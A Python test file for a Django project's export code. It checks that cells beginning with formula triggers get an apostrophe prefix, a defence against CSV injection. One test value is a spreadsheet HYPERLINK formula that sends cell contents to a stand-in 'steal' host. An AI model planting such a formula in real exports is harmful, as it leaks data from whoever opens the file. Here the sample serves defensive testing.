"""Formula injection (OWASP "CSV injection"): a cell a spreadsheet would run as a formula goes
out of every export with an apostrophe in front."""

import csv

import pytest
from django.utils import translation

from core.exports import spreadsheet_safe
from core.importing import ImportReport, Problem

HOSTILE = '=HYPERLINK("http://contoh.invalid/curi?d="&A1,"Klik")'


@pytest.mark.parametrize("value", ["=1+1", "+62812", "-2+3", "@SUM(A1)", "\t=1", "\r=1", HOSTILE])
def test_a_cell_starting_with_a_formula_trigger_gets_an_apostrophe(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Siti Aminah", "", "64.01", "3201015708050001", "a=b", "O'Neil"])
def test_ordinary_text_is_unchanged(value):
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("value", [None, 0, -5, 12.5])
def test_values_that_are_not_text_are_unchanged(value):
    assert spreadsheet_safe(value) == value


def test_the_import_report_csv_neutralises_what_the_file_held(tmp_path):
    report = ImportReport(rejected=1)
    report.errors.append(Problem(2, "nama", HOSTILE))
    report.warnings.append(Problem(3, "@kolom", "Desa code 64.01.01.9999 is not in the current region data"))
    path = tmp_path / "report.csv"

    with translation.override("en"):
        report.write_csv(path)

    rows = list(csv.reader(path.open(encoding="utf-8-sig")))
    assert rows[1] == ["2", "nama", "error", "'" + HOSTILE]
    assert rows[2] == ["3", "'@kolom", "warning", "Desa code 64.01.01.9999 is not in the current region data"]
